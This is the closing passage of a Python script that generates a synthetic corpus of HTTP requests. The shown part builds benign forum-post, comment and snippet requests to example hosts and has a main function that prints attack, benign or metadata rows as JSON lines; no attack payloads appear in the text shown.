        add("tracking", "GET", uri, browser_headers(host, rng, cookie=std_cookie(rng), referer=rng.choice(EXT_URLS)))

    # ---- dev-content (45, <= 10%)
    for i in range(45):
        host = rng.choice(["forum.example.org", "blog.example.io", "app.example.org"])
        post = DEV_POSTS[i % len(DEV_POSTS)]
        h = browser_headers(host, rng, cookie=std_cookie(rng), referer=f"https://{host}/new")
        if i % 3 == 0:
            body = json.dumps({"title": "Question about " + rng.choice(["SQL", "bash", "HTML", "Postgres", "Docker", "Python"]), "body_markdown": post, "tags": ["help"]})
            add("dev-content", "POST", "/api/posts", with_body(h, "application/json", body), body)
        elif i % 3 == 1:
            body = "comment%5Bbody%5D=" + qp(post) + "&comment%5Bparent_id%5D=" + str(rng.randrange(10**5))
            add("dev-content", "POST", "/comments", with_body(h, "application/x-www-form-urlencoded", body), body)
        else:
            ct, body = multipart([("title", "Snippet", None, None), ("content", post, None, None), ("visibility", "public", None, None)], rng)
            add("dev-content", "POST", "/snippets", with_body(h, ct, body), body)
    return rows


def main():
    args = sys.argv[1:]
    if args == ["attacks"]:
        rows, _ = gen_attacks()
    elif args == ["benign"]:
        rows = gen_benign()
    elif args == ["meta", "attacks"]:
        _, rows = gen_attacks()
    else:
        sys.exit("usage: corpus-realworld.py attacks|benign|meta attacks")
    ids = set()
    for r in rows:
        assert r["id"] not in ids, r["id"]
        ids.add(r["id"])
        sys.stdout.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
